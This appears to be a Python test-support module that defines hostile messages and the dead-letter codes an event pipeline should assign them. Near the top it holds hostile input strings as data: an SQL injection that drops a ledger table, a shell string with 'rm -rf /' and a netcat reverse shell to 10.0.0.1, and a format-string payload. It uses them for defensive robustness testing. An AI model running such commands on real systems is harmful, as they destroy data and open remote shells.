"""One hostile message and the dead-letter code it must get (docs/events.md s8.2, s9)."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

from models.codes import DeadLetterCode
from tests.hostile.baseline import KEY_FIELDS, encode

SQL = "x'; DROP TABLE ledger_transactions; --"
SHELL = "$(rm -rf /) `reboot` | nc -e /bin/sh 10.0.0.1 4444 & ;"
FORMAT = "%s%s%s%n %(x)s {0} {__class__}"

#: Every dead-letter code of docs/events.md s9: the corpus must show each one.
#: ``storage_rejected`` is the database's refusal of a valid message, which no message
#: causes by itself: tests/integration/test_poison.py provokes it with a constraint.
CODES = frozenset(DeadLetterCode) - {DeadLetterCode.STORAGE_REJECTED}
#: The codes ``models.decode`` can give from one message alone (models/codes.py).
DECODED = frozenset({
    DeadLetterCode.MALFORMED_JSON, DeadLetterCode.SCHEMA_VIOLATION,
    DeadLetterCode.UNKNOWN_EVENT_TYPE, DeadLetterCode.UNSUPPORTED_SCHEMA_VERSION,
    DeadLetterCode.MESSAGE_TOO_LARGE, DeadLetterCode.INVALID_VALUE,
    DeadLetterCode.VALUE_OUT_OF_RANGE, DeadLetterCode.MISSING_CONDITION,
    DeadLetterCode.MISSING_INDICATOR, DeadLetterCode.UNKNOWN_CONDITION,
    DeadLetterCode.UNKNOWN_INDICATOR, DeadLetterCode.UNKNOWN_WINDOW})
#: The codes that need state: ``models.decode`` accepts such a message, the pipeline
#: refuses it (docs/events.md s10; streams/).
STATEFUL = CODES - DECODED


@dataclass(frozen=True)
class Hostile:
    """One message to publish, and the dead-letter code it must get."""

    name: str
    topic: str  # logical input topic
    key: bytes | None
    value: bytes | None
    code: str
    #: a known disagreement with ``code`` (decode or pipeline): reported, not hidden
    issue: str | None = None
    #: a code of :data:`DECODED` that only the state can decide here: a date out of order
    #: with another event's (``invalid_value``), a complaint subject that is not one of
    #: the commune's window (``unknown_indicator``, ``unknown_condition``)
    against_state: bool = False

    @property
    def stateful(self) -> bool:
        """Decode accepts it; the pipeline refuses it."""
        return self.code in STATEFUL or self.against_state


def one(name: str, topic: str, body: Any, code: str, issue: str | None = None,
        against_state: bool = False) -> Hostile:
    """An entry keyed as its topic keys (raw bytes: a placeholder key)."""
    value = body if isinstance(body, bytes) else encode(body)
    key = b"hostile" if isinstance(body, bytes) else str(
        body.get(KEY_FIELDS[topic], "hostile")).encode("utf-8", "surrogatepass")
    return Hostile(f"{topic}: {name}", topic, key, value, code, issue, against_state)


def replaced(body: dict[str, Any], old: str, new: str) -> bytes:
    """The encoded body with one literal spelling replaced (numbers json cannot write)."""
    text = encode(body).decode("utf-8")
    assert old in text, (old, text)
    return text.replace(old, new, 1).encode("utf-8")
